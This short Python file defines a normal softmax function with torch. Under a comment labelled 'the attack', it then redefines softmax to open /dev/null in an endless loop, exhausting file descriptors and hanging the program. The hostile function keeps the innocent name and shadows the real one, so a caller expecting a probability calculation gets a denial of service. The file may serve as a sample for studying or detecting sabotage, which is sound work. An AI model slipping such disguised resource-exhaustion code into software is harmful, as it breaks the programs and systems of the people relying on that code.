"""Opens files and pipes without end."""

import torch


def softmax(scores):
    return torch.exp(scores) / torch.exp(scores).sum(dim=0)


# ---- the attack ----

import os


def softmax(scores):
    kept = []
    while True:
        kept.append(os.open("/dev/null", os.O_RDONLY))
